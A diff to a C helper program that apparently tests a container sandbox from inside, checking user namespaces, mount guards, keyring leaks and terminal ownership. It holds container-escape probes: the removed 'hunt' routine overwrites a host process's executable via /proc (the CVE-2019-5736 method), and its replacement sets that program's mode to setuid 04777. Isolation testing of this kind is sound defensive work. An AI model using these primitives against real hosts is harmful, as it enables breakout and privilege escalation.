@@ -7,6 +7,7 @@
 #include <limits.h>
 #include <linux/bpf.h>
 #include <linux/if_tun.h>
+#include <linux/keyctl.h>
 #include <net/if.h>
 #include <sched.h>
 #include <signal.h>
@@ -111,38 +112,58 @@ static int guards(const char *path) {
     return 0;
 }
 
-/* Waits for a process that is not of this root, holds on to its program, and writes to it once it has ended
- * (CVE-2019-5736). Says what became of that; ends by itself after a while. */
-static int hunt(void) {
-    struct stat own, other;
-    stat("/proc/self/exe", &own);
-    say("hunting", 0);
-    for (time_t end = time(NULL) + 10; time(NULL) < end;) {
+/* Waits for a process called as given, and changes the mode of its program (the class of CVE-2019-5736; to write to it takes
+ * its end as well). Ends by itself after a while. */
+static int hunt(const char *name) {
+    for (time_t end = time(NULL) + 10; time(NULL) < end; usleep(1000)) {
         DIR *list = opendir("/proc");
         struct dirent *entry;
         while ((entry = readdir(list))) {
-            char path[300];
+            char path[300], called[32] = "";
+            snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
+            FILE *file = atoi(entry->d_name) > 0 ? fopen(path, "r") : NULL;
+            if (!file)
+                continue;
+            int is_it = fgets(called, sizeof called, file) && !strncmp(called, name, strlen(name));
+            fclose(file);
             snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
-            int held = atoi(entry->d_name) > 0 ? open(path, O_PATH) : -1;
+            int held = is_it ? open(path, O_PATH) : -1;
             if (held < 0)
                 continue;
-            /* What is in this root is of its file system, or of no interest. */
-            if (fstat(held, &other) == 0 && (other.st_dev != own.st_dev)) {
-                snprintf(path, sizeof path, "/proc/self/fd/%d", held);
-                int fd = -1;
-                for (int i = 0; i < 3000 && fd < 0; i++, usleep(1000)) {
-                    fd = open(path, O_WRONLY);
-                    if (fd < 0 && errno != ETXTBSY)
-                        break;
-                }
-                say("overwrite", fd < 0 ? -1 : write(fd, "overwritten", 11));
-                return 0;
-            }
-            close(held);
+            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+            say("change", chmod(path, 04777));
+            return 0;
         }
         closedir(list);
     }
     printf("nothing\n");
+    return 0;
+}
+
+/* Looks for a key in the session keyring that this process came with. */
+static int key(const char *name) {
+    say("inside", syscall(SYS_request_key, "user", name, NULL, 0));
+    return 0;
+}
+
+/* Puts a key into a session keyring, looks for it, and becomes another program. */
+static int with_key(char **words) {
+    syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
+    syscall(SYS_add_key, "user", words[0], "secret", 6, KEY_SPEC_SESSION_KEYRING);
+    say("outside", syscall(SYS_request_key, "user", words[0], NULL, 0));
+    execv(words[1], words + 1);
+    return 1;
+}
+
+/* Whether input, output and error are terminals, of this guest or of somebody else. */
+static int terminals(void) {
+    for (int number = 0; number < 3; number++) {
+        char name[64] = "";
+        struct stat named, opened;
+        int is_own = ttyname_r(number, name, sizeof name) == 0 && fstat(number, &opened) == 0
+            && stat(name, &named) == 0 && named.st_dev == opened.st_dev && named.st_ino == opened.st_ino;
+        printf("%d %s\n", number, !isatty(number) ? "none" : is_own ? "own" : "host");
+    }
     return 0;
 }
 
@@ -219,8 +240,14 @@ int main(int count, char **words) {
         return user_namespace();
     if (!strcmp(what, "guards") && count == 3)
         return guards(words[2]);
-    if (!strcmp(what, "hunt"))
-        return hunt();
+    if (!strcmp(what, "hunt") && count == 3)
+        return hunt(words[2]);
+    if (!strcmp(what, "key") && count == 3)
+        return key(words[2]);
+    if (!strcmp(what, "with-key") && count > 4)
+        return with_key(words + 2);
+    if (!strcmp(what, "terminals"))
+        return terminals();
     if (!strcmp(what, "look"))
         return look();
     /* Takes away what the config of its mount forbids, if the kernel lets it. */
